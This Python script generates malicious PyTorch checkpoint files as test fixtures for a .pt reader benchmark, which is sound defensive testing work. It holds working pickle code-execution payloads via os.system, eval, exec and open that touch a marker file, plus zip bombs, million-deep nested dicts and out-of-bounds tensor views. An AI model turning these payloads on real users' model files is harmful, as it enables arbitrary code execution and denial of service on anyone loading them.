#!/usr/bin/python3
"""Writes hostile .pt files for the .pt reader bench (bench/HiStream.Bench.Checkpoints).

Each code-running file writes MARKER when Python's torch.load (weights_only=False, the default of
PyTorch 1.13) opens it; this script checks that it does, so the payloads are known to be live.
Needs Debian's python3-torch: run with /usr/bin/python3.

usage: make-malicious.py OUT_DIR [--marker PATH]
"""
import argparse
import builtins
import collections
import io
import os
import pickle
import struct
import subprocess
import sys
import zipfile

import torch


def reduce_to(func, *args):
    """An object that pickles as GLOBAL func + REDUCE(args): unpickling calls func(*args)."""
    class Payload:
        def __reduce__(self):
            return (func, args)
    return Payload()


def evil_state_dict(payload):
    return {"generator_ema": {"model.head.head.bias": torch.zeros(64), "model.head.head.weight": payload}}


# ---- hand-written torch.save archives ------------------------------------------------------------

def archive(path, pkl, storages=None, deflate=()):
    """A zip laid out like torch.save's: archive/data.pkl, archive/data/<key>, version, byteorder."""
    with zipfile.ZipFile(path, "w", zipfile.ZIP_STORED, allowZip64=True) as z:
        info = zipfile.ZipInfo("archive/data.pkl")
        info.compress_type = zipfile.ZIP_DEFLATED if "data.pkl" in deflate else zipfile.ZIP_STORED
        if callable(pkl):
            with z.open(info, "w", force_zip64=True) as f:
                pkl(f)
        else:
            z.writestr(info, pkl)
        z.writestr("archive/byteorder", "little")
        for key, data in (storages or {}).items():
            info = zipfile.ZipInfo(f"archive/data/{key}")
            info.compress_type = zipfile.ZIP_DEFLATED if key in deflate else zipfile.ZIP_STORED
            if callable(data):
                with z.open(info, "w", force_zip64=True) as f:
                    data(f)
            else:
                z.writestr(info, data)
        z.writestr("archive/version", "3\n")


class FakeStorage:
    def __init__(self, key, numel, kind="FloatStorage"):
        self.key, self.numel, self.kind = key, numel, kind


class FakeTensor:
    """Pickles exactly like a tensor in torch.save: _rebuild_tensor_v2(storage, offset, size, stride, ...)."""
    def __init__(self, storage, offset, size, stride):
        self.storage, self.offset, self.size, self.stride = storage, offset, size, stride

    def __reduce__(self):
        return (torch._utils._rebuild_tensor_v2,
                (self.storage, self.offset, self.size, self.stride, False, collections.OrderedDict()))


class TorchLikePickler(pickle.Pickler):
    def persistent_id(self, obj):
        if isinstance(obj, FakeStorage):
            return ("storage", getattr(torch, obj.kind), obj.key, "cpu", obj.numel)
        return None


def torch_pickle(obj):
    buf = io.BytesIO()
    TorchLikePickler(buf, protocol=2).dump(obj)
    return buf.getvalue()


def tensor_dict(tensor):
    return {"generator_ema": {"model.w": tensor}}


def string_op(s):
    b = s.encode()
    return b"X" + struct.pack("<I", len(b)) + b


def deep_dicts(depth):
    """{"a": {"a": ... {} ...}} nested depth times, built without recursion (Python's pickler would overflow)."""
    return b"\x80\x02" + (b"}" + string_op("a")) * depth + b"}" + b"s" * depth + b"."


def shared_subdicts(levels):
    """d0 = {"a": d1, "b": d1}, d1 = {"a": d2, "b": d2}, ...: 2**levels paths to one tensor, inside generator_ema."""
    st = FakeStorage("0", 4)
    # the innermost dict first; each dict is stored in the memo, popped, and fetched twice by its parent
    out = b"\x80\x02"
    out += b"}" + string_op("w")
    out += torch_pickle(FakeTensor(st, 0, (4,), (1,)))[2:-1]  # the tensor's opcodes (no PROTO/STOP); memo ids < 100
    out += b"s" + b"r" + struct.pack("<I", 100) + b"0"
    for level in range(levels):
        child = b"j" + struct.pack("<I", 100 + level)
        out += b"}" + string_op("a") + child + b"s" + string_op("b") + child + b"s"
        out += b"r" + struct.pack("<I", 100 + level + 1) + b"0"
    out += b"}" + string_op("generator_ema") + b"j" + struct.pack("<I", 100 + levels) + b"s."
    return out


def self_cycle():
    """d = {}; d["a"] = d (no generator_ema, no tensors)."""
    return b"\x80\x02}q\x00" + string_op("a") + b"h\x00s."


def huge_memo_index():
    """A valid state dict whose dicts are stored at memo index 2**32-1 and fetched back from there."""
    st = FakeStorage("0", 4)
    body = torch_pickle(tensor_dict(FakeTensor(st, 0, (4,), (1,))))
    return body[:2] + b"}r\xff\xff\xff\xff0j\xff\xff\xff\xff0" + body[2:]


def write_zeros(n):
    def write(f):
        chunk = bytes(1 << 24)
        left = n
        while left:
            k = min(left, len(chunk))
            f.write(chunk[:k])
            left -= k
    return write


def main():
    ap = argparse.ArgumentParser()
    ap.add_argument("out_dir")
    ap.add_argument("--marker", default="/tmp/histream-pwned-marker")
    args = ap.parse_args()
    os.makedirs(args.out_dir, exist_ok=True)
    marker = args.marker
    out = lambda name: os.path.join(args.out_dir, name)
    four = struct.pack("<4f", 1, 2, 3, 4)

    # Code execution, written by torch.save itself (what an attacker would do).
    torch.save(evil_state_dict(reduce_to(os.system, f"touch {marker}")), out("exec-os-system.pt"))
    torch.save(evil_state_dict(reduce_to(builtins.eval, f"open({marker!r}, 'w').close()")), out("exec-builtins-eval.pt"))
    torch.save(evil_state_dict(reduce_to(builtins.exec, f"import pathlib; pathlib.Path({marker!r}).touch()")),
               out("exec-builtins-exec-proto4.pt"), pickle_protocol=4)
    torch.save(evil_state_dict(reduce_to(builtins.open, marker, "w")), out("exec-reduce-open.pt"))

    # Structures that hurt a reader that recurses or expands shared references.
    archive(out("deep-dicts.pt"), deep_dicts(1_000_000))
    archive(out("self-cycle.pt"), self_cycle())
    archive(out("shared-subdicts.pt"), shared_subdicts(30), {"0": four})
    archive(out("huge-memo-index.pt"), huge_memo_index(), {"0": four})

    # Tensor views that reach outside their storage, or blow up when made contiguous.
    st = FakeStorage("0", 4)
    archive(out("view-past-storage.pt"), torch_pickle(tensor_dict(FakeTensor(st, 0, (1000,), (1,)))), {"0": four})
    archive(out("view-offset-past-storage.pt"), torch_pickle(tensor_dict(FakeTensor(st, 1 << 40, (4,), (1,)))), {"0": four})
    archive(out("view-stride-overflow.pt"), torch_pickle(tensor_dict(FakeTensor(st, 0, (2**32 + 1,), (2**32,)))), {"0": four})
    archive(out("view-zero-stride-8gb.pt"), torch_pickle(tensor_dict(FakeTensor(st, 0, (2**31,), (0,)))), {"0": four})
    archive(out("storage-numel-past-record.pt"), torch_pickle(tensor_dict(FakeTensor(FakeStorage("0", 1 << 40), 0, (4,), (1,)))), {"0": four})

    # Zip bombs and broken archives.
    n = 2 << 30
    archive(out("zip-bomb-storage-2gib.pt"), torch_pickle(tensor_dict(FakeTensor(FakeStorage("0", n // 4), 0, (n // 4,), (1,)))),
            {"0": write_zeros(n)}, deflate={"0"})
    archive(out("zip-bomb-pickle-2gib.pt"), lambda f: (f.write(b"\x80\x02}."), write_zeros((2 << 30) - 100)(f)),
            deflate={"data.pkl"})
    good = out("good-small.pt")
    torch.save({"generator_ema": {"model.w": torch.arange(1000, dtype=torch.float32)}}, good)
    data = open(good, "rb").read()
    open(out("truncated-zip.pt"), "wb").write(data[: len(data) // 2])
    os.remove(good)

    # Prove the code-running payloads are live: Python's torch.load runs them.
    for name in sorted(os.listdir(args.out_dir)):
        if not name.startswith("exec-"):
            continue
        if os.path.exists(marker):
            os.remove(marker)
        subprocess.run([sys.executable, "-c", f"import torch; torch.load({out(name)!r})"], capture_output=True)
        print(f"{name}: torch.load {'RAN the payload' if os.path.exists(marker) else 'did not run the payload'}")
    if os.path.exists(marker):
        os.remove(marker)
    for name in sorted(os.listdir(args.out_dir)):
        print(f"{name}: {os.path.getsize(out(name)):,} bytes")


if __name__ == "__main__":
    main()
